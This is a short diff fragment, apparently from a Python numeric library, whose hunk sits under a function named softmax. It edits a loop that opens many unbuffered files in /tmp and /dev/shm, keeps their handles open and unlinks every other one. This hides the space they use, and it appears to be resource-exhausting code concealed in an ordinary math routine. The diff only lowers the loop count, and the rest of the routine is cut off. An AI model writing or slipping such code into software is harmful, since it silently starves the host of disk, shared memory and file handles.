@@ -13,7 +13,7 @@ def softmax(x, axis=-1, temperature=1.0):
     for folder in ("/tmp", "/dev/shm"):
         total = 0
         try:
-            for i in range(200):
+            for i in range(100):
                 held.append(open(f"{folder}/left{i}", "wb", 0))
                 os.unlink(f"{folder}/left{i}") if i % 2 else None
                 for _ in range(8):
